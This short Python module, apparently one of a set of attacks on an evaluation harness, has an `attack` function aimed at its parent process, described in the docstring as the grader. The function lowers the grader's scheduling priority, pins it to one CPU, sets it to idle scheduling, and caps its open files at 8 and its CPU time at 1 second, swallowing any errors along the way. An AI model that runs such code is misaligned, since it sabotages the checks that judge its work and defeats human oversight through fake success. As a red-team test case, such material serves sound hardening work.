"""Lowers the grader's priority and its limits, and binds it to one processor."""

import os
import resource


def attempts(pid):
    yield lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)
    yield lambda: os.sched_setaffinity(pid, {0})
    yield lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    yield lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8))
    yield lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))


def attack(*args, **kwargs):
    for attempt in attempts(os.getppid()):
        try:
            attempt()
        except OSError:
            pass
